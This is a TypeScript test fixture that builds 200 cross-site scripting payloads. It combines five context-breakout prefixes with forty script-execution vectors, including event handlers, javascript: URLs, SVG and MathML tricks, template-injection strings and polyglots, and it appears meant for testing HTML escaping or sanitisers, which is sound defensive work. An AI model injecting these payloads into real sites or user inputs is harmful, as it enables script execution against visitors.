/** Two hundred names that would be code on a page that took them for HTML: forty ways to run, out of five places. */

/** Where a text may stand, and how one gets out of there. */
const OUT_OF = ['', '">', "'>", '</textarea></title></script>', '--></style>'];

const RUNS = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<svg onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>',
	'<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
	'<svg><set onbegin=alert(1) attributeName=x>',
	'<svg><a xlink:href=javascript:alert(1)><text y=20>눌러요</text></a>',
	'<math><a href=javascript:alert(1)>눌러요</a></math>',
	'<math><mtext><img src=x onerror=alert(1)></mtext></math>',
	'<body onload=alert(1)>',
	'<body onpageshow=alert(1)>',
	'<iframe src=javascript:alert(1)></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<object data=javascript:alert(1)></object>',
	'<object data="data:text/html,<script>alert(1)</script>"></object>',
	'<embed src=javascript:alert(1)>',
	'<video src=x onerror=alert(1)></video>',
	'<video><source onerror=alert(1)></video>',
	'<audio src=x onerror=alert(1)></audio>',
	'<details open ontoggle=alert(1)>더 보기</details>',
	'<input autofocus onfocus=alert(1)>',
	'<select autofocus onfocus=alert(1)></select>',
	'<textarea autofocus onfocus=alert(1)></textarea>',
	'<button popovertarget=x onbeforetoggle=alert(1)>눌러요</button><p popover id=x>',
	'<a href=javascript:alert(1) autofocus onfocus=alert(1) tabindex=1>눌러요</a>',
	'<a href="&#106;avascript:alert(1)">눌러요</a>',
	'<form action=javascript:alert(1)><button>눌러요</button></form>',
	'<form><button formaction=javascript:alert(1)>눌러요</button></form>',
	'<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
	'<base href="//example.com/">',
	'<link rel=stylesheet href="data:text/css,*{display:none}">',
	'<style>@import "//example.com/x.css";*{display:none}</style>',
	'<p style="animation:x 1s" onanimationstart=alert(1)>',
	'<marquee onstart=alert(1)>단골</marquee>',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	'<template><script>alert(1)</script></template><img src=x onerror=alert(1)//',
	'<img src="x` `<script>alert(1)</script>"` `>',
	'{{constructor.constructor("alert(1)")()}}',
	'${alert(1)}{@html "<img src=x onerror=alert(1)>"}',
	'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)//'
];

export const PAYLOADS: readonly string[] = OUT_OF.flatMap((out) => RUNS.map((run) => out + run));
